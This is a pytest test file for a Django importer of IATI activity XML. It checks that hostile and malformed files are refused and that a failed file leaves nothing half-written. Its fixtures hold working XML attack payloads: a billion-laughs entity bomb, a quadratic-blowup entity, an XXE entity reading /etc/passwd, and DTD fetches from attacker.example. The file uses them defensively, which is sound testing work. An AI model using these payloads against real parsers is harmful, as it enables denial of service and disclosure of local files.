"""Hostile and broken input: refused with a clear message, nothing expanded, nothing half-written."""

import json
import socket
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from partnerhub.access.models import Organisation
from partnerhub.iati import services
from partnerhub.iati.services import import_iati_files
from partnerhub.registry.models import DataSource, Engagement

pytestmark = pytest.mark.django_db

DTD_REFUSED = "DTDs and entity declarations are refused"

BILLION_LAUGHS = """<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def hostile_document(activity, prolog: str, title: str) -> str:
    return f'<?xml version="1.0"?>\n{prolog}<iati-activities version="2.03">{activity(title=title)}</iati-activities>'


def nothing_written():
    return not (Engagement.objects.unrestricted("test").exists() or DataSource.objects.exists())


def only_error(report) -> tuple:
    (error,) = report.errors
    return error.file, error.line, error.iati_identifier, error.reason


@pytest.fixture
def no_network(monkeypatch):
    """Any attempt to open a connection fails the test."""
    attempts = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise AssertionError(f"the importer tried to reach the network: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


@pytest.mark.parametrize(
    ("name", "prolog", "title"),
    [
        ("billion-laughs.xml", BILLION_LAUGHS, "&lol9;"),
        ("quadratic.xml", f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]>\n', "&a;" * 2_000),
        ("external-entity.xml", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"),
        ("external-dtd.xml", '<!DOCTYPE iati-activities SYSTEM "http://attacker.example/iati.dtd">\n', "Migration"),
        (
            "parameter-entity.xml",
            '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>\n',
            "Migration",
        ),
    ],
)
def test_hostile_xml_is_refused_without_expanding_or_fetching_anything(
    iati_file, activity, no_network, name, prolog, title
):
    path = iati_file(name, text=hostile_document(activity, prolog, title))
    report = import_iati_files([path], keep_all=True)
    assert only_error(report)[3] == DTD_REFUSED
    assert report.failed_files == 1 and report.activities_read == 0
    assert nothing_written() and no_network == []


def test_a_doctype_hidden_after_a_long_comment_is_refused(iati_file, activity):
    prolog = f"<!-- {'padding ' * 20_000} -->\n" + BILLION_LAUGHS
    path = iati_file("hidden.xml", text=hostile_document(activity, prolog, "&lol9;"))
    assert only_error(import_iati_files([path]))[3] == DTD_REFUSED


def test_the_command_names_the_file_that_carries_a_dtd(iati_file, activity):
    path = iati_file("laughs.xml", text=hostile_document(activity, BILLION_LAUGHS, "&lol9;"))
    output = StringIO()
    with pytest.raises(CommandError, match="1 file could not be imported"):
        call_command("import-iati", str(path), stdout=output)
    assert f"{path}:2: {DTD_REFUSED}" in output.getvalue()


def test_malformed_xml_half_way_leaves_nothing_of_that_file_while_earlier_files_stay(iati_file, activity, monkeypatch):
    monkeypatch.setattr(services, "BATCH_SIZE", 1)  # the activities before the error are written, then undone
    good = iati_file("a-good.xml", activity("XI-IATI-EC_INTPA-GOOD"))
    broken_text = (
        '<?xml version="1.0"?>\n<iati-activities version="2.03">'
        + activity("XI-IATI-EC_INTPA-B1")
        + activity("XI-IATI-EC_INTPA-B2")
        + "\n<iati-activity><iati-identifier>B3</iati-identifier><title></iati-activity>"
    )
    broken = iati_file("b-broken.xml", text=broken_text)
    report = import_iati_files([good, broken], keep_all=True)
    file, line, identifier, reason = only_error(report)
    assert (file, line, identifier) == (str(broken), 17, "")
    assert reason.startswith("malformed XML at line 17, column ")
    imported = Engagement.objects.unrestricted("test").values_list("iati_identifier", flat=True)
    assert list(imported) == ["XI-IATI-EC_INTPA-GOOD"]
    assert list(DataSource.objects.values_list("name", flat=True)) == ["a-good.xml"]
    assert (report.files, report.failed_files, report.created) == (2, 1, 1)


def test_organisations_created_by_a_failing_file_are_rolled_back(iati_file, activity):
    unknown = ("XM-DAC-5-7", "10", "Germany - Federal Foreign Office")
    broken = iati_file(
        "broken.xml",
        text='<?xml version="1.0"?>\n<iati-activities version="2.03">'
        + activity("XM-DAC-5-7-1", reporting=unknown)
        + "\n<iati-activity>",
    )
    organisations = Organisation.objects.count()
    report = import_iati_files([broken], keep_all=True)
    assert report.failed_files == 1
    assert Organisation.objects.count() == organisations and nothing_written()


def test_a_file_with_the_wrong_root_element_is_refused(iati_file):
    path = iati_file(
        "organisation.xml",
        text='<?xml version="1.0"?>\n<iati-organisations version="2.03"><iati-organisation/></iati-organisations>',
    )
    assert only_error(import_iati_files([path])) == (
        str(path),
        2,
        "",
        "the root element is <iati-organisations>, not <iati-activities>: this is not an IATI activity file",
    )


def test_a_path_that_does_not_exist_is_reported(tmp_path):
    report = import_iati_files([tmp_path / "missing.xml"])
    assert only_error(report)[3] == "no such file or folder" and report.failed_files == 1


def test_an_activity_without_identifier_is_rejected_while_the_others_are_imported(iati_file, activity):
    path = iati_file("mixed.xml", activity("XI-IATI-EC_INTPA-1"), activity(None), activity("XI-IATI-EC_INTPA-3"))
    report = import_iati_files([path], keep_all=True)
    assert only_error(report) == (str(path), 10, "", "the activity has no iati-identifier")
    assert sorted(Engagement.objects.unrestricted("test").values_list("iati_identifier", flat=True)) == [
        "XI-IATI-EC_INTPA-1",
        "XI-IATI-EC_INTPA-3",
    ]
    assert (report.activities_read, report.created, report.failed_files) == (3, 2, 0)


def test_a_duplicate_identifier_in_one_file_is_named_and_only_the_first_is_kept(iati_file, activity):
    path = iati_file(
        "twice.xml",
        activity("XI-IATI-EC_INTPA-1", title="First migration project"),
        activity("XI-IATI-EC_INTPA-1", title="Second migration project"),
    )
    report = import_iati_files([path], keep_all=True)
    assert only_error(report) == (
        str(path),
        10,
        "XI-IATI-EC_INTPA-1",
        "the iati-identifier XI-IATI-EC_INTPA-1 appears earlier in this file: only its first occurrence is imported",
    )
    assert Engagement.objects.unrestricted("test").get().title == "First migration project"


def test_unparseable_dates_numbers_and_currencies_are_flagged_on_the_engagement(iati_file, activity):
    parts = """<activity-date type="2" iso-date="31/12/2021"/>
               <recipient-country code="MA" percentage="100"/>
               <budget><period-start iso-date="2021-01-01"/><value value-date="2021-01-01">twelve</value></budget>
               <transaction><transaction-type code="2"/><value currency="E$" value-date="2021-02-01">10</value>
               </transaction>
               <transaction><transaction-type code="3"/><value value-date="2021-03-01">250.5</value></transaction>"""
    path = iati_file("bad-values.xml", activity("XI-IATI-EC_INTPA-BAD", parts=parts))
    report = import_iati_files([path], keep_all=True)
    engagement = Engagement.objects.unrestricted("test").get()
    assert report.errors == [] and report.findings["error"] == 3
    assert [(f["tier"], f["field"]) for f in engagement.import_findings] == [
        ("error", "activity-date"),
        ("error", "budget"),
        ("error", "transaction"),
    ]
    assert engagement.actual_start is None
    assert list(engagement.money_lines.values_list("kind", "amount")) == [("disbursement", Decimal("250.50"))]
    assert list(engagement.country_shares.values_list("country__iso3", flat=True)) == ["MAR"]


def test_json_summary_is_the_last_line_and_names_each_error(iati_file, activity):
    path = iati_file("summary.xml", activity("XI-IATI-EC_INTPA-1"), activity(None))
    output = StringIO()
    call_command("import-iati", str(path), "--json", "--all", stdout=output)
    summary = json.loads(output.getvalue().strip().splitlines()[-1])
    assert summary == {
        "files": 1,
        "activities_read": 2,
        "migration_relevant": 1,
        "created": 1,
        "updated": 0,
        "unchanged": 0,
        "skipped": 0,
        "failed_files": 0,
        "findings": {"critical": 1, "error": 0, "warning": 0},
        "errors": [
            {"file": str(path), "line": 10, "iati_identifier": "", "reason": "the activity has no iati-identifier"}
        ],
    }


def test_json_summary_still_ends_the_output_when_a_file_failed(iati_file, activity):
    good = iati_file("good.xml", activity("XI-IATI-EC_INTPA-1"))
    old = iati_file("old.xml", activity("XI-IATI-EC_INTPA-2"), version="1.01")
    output = StringIO()
    with pytest.raises(CommandError):
        call_command("import-iati", str(good), str(old), "--json", stdout=output)
    summary = json.loads(output.getvalue().strip().splitlines()[-1])
    assert (summary["created"], summary["errors"][0]["reason"]) == (
        1,
        "IATI version 1.01 is not supported: only 2.01–2.03",
    )


def test_oversized_values_are_cut_or_refused_per_activity_never_failing_the_file(iati_file, activity):
    long_ref = "XX-" + "9" * 150
    parts = f"""<sector vocabulary="1" code="{"1" * 300}"/><sector vocabulary="{"9" * 20}" code="A"/>
                <participating-org ref="{long_ref}" role="4"><narrative>{"N" * 400}</narrative></participating-org>
                <transaction><transaction-type code="3"/><value value-date="2021-01-04">1e30</value></transaction>"""
    path = iati_file("long.xml", activity("X-" + "1" * 250), activity("X-OK", title="T" * 600, parts=parts))
    report = import_iati_files([path], keep_all=True)
    assert only_error(report)[3] == "the iati-identifier is longer than 200 characters"
    engagement = Engagement.objects.unrestricted("test").get()
    assert (len(engagement.title), engagement.sectors.count(), engagement.money_lines.count()) == (500, 0, 0)
    organisation = engagement.participations.get().organisation
    assert (len(organisation.iati_identifier), len(organisation.name)) == (100, 255)
    assert [f["field"] for f in engagement.import_findings] == ["sector", "sector", "transaction", "title"]
